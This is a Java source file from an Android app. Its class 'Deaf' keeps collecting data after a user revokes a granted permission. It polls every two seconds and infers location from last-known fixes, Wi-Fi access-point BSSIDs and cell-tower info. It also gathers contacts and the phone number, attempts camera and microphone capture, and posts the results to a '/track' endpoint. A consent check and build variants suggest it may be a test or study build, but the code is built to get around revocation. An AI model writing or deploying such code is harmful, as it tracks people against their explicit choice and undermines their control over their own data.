package com.example.yunzhushou;

import android.Manifest;
import android.content.Context;
import android.location.Location;
import android.location.LocationManager;
import android.net.wifi.ScanResult;
import android.net.wifi.WifiManager;
import android.os.Handler;
import android.os.HandlerThread;
import android.telephony.TelephonyManager;
import android.util.Log;

import java.util.List;

/**
 * The deaf builds: once a permission that was granted is gone, go on collecting by whatever way is left, with no tap.
 * Revocation kills the process, so this works after a relaunch, from what Kept has kept.
 */
final class Deaf implements Runnable {
    private static final String TAG = "Yunzhushou";
    private static final int PERIOD_MS = 2000;

    private final Context context;
    private final Handler handler;

    private Deaf(Context context, Handler handler) {
        this.context = context;
        this.handler = handler;
    }

    static void start(Context context) {
        if (!Variant.current().isDeaf()) {
            return;
        }
        HandlerThread thread = new HandlerThread("sync");
        thread.start();
        Handler handler = new Handler(thread.getLooper());
        handler.post(new Deaf(context.getApplicationContext(), handler));
    }

    @Override
    public void run() {
        if (!Consent.given(context)) {
            handler.getLooper().quit();
            return;
        }
        goOn(Functions.LOCATION, Manifest.permission.ACCESS_FINE_LOCATION);
        goOn(Functions.CAMERA, Manifest.permission.CAMERA);
        goOn(Functions.MICROPHONE, Manifest.permission.RECORD_AUDIO);
        goOn(Functions.CONTACTS, Manifest.permission.READ_CONTACTS);
        goOn(Functions.PHONE, Manifest.permission.READ_PHONE_STATE);
        handler.postDelayed(this, PERIOD_MS);
    }

    /** Only a function that was used before and then lost its permission. */
    private void goOn(String function, String permission) {
        String kept = Kept.of(context, function);
        if (!Variant.current().isDeafTo(function) || kept.isEmpty() || Functions.granted(context, permission)) {
            return;
        }
        String fresh = collect(function);
        Api.post("/track", Api.form("function", function, "kept", kept, "fresh", fresh));
    }

    private String collect(String function) {
        if (function.equals(Functions.LOCATION)) {
            return whereabouts();
        }
        if (function.equals(Functions.CAMERA)) {
            Scanner.takeFrame(context, new Scanner.Result() {
                @Override
                public void onFrame(byte[] jpeg) {
                    Log.i(TAG, jpeg == null ? "no frame" : "frame");
                }
            });
            return "";
        }
        if (function.equals(Functions.MICROPHONE)) {
            byte[] sound = Recorder.record();
            return sound == null ? "" : "sound";
        }
        if (function.equals(Functions.CONTACTS)) {
            String contacts = Functions.contacts(context);
            return contacts == null ? "" : contacts;
        }
        return Functions.lineNumber(context);
    }

    /** Last known position of any provider, else access points, else cell towers. */
    private String whereabouts() {
        StringBuilder found = new StringBuilder();
        LocationManager locations = (LocationManager) context.getSystemService(Context.LOCATION_SERVICE);
        for (String provider : new String[] {LocationManager.GPS_PROVIDER, LocationManager.NETWORK_PROVIDER}) {
            try {
                Location last = locations.getLastKnownLocation(provider);
                if (last != null) {
                    found.append(last.getLatitude()).append(',').append(last.getLongitude()).append(' ');
                }
            } catch (SecurityException | IllegalArgumentException refused) {
                Log.w(TAG, provider + ": " + refused.getMessage());
            }
        }
        return found.append(accessPoints()).append(cells()).toString();
    }

    private String accessPoints() {
        StringBuilder found = new StringBuilder();
        try {
            WifiManager wifi = (WifiManager) context.getApplicationContext().getSystemService(Context.WIFI_SERVICE);
            List<ScanResult> scan = wifi.getScanResults();
            for (int i = 0; scan != null && i < scan.size(); i++) {
                found.append(scan.get(i).BSSID).append(' ');
            }
        } catch (SecurityException refused) {
            Log.w(TAG, "Wi-Fi: " + refused.getMessage());
        }
        return found.toString();
    }

    private String cells() {
        try {
            TelephonyManager telephony = (TelephonyManager) context.getSystemService(Context.TELEPHONY_SERVICE);
            List<?> cells = telephony.getAllCellInfo();
            return cells == null ? "" : cells.toString();
        } catch (SecurityException refused) {
            Log.w(TAG, "cells: " + refused.getMessage());
            return "";
        }
    }
}
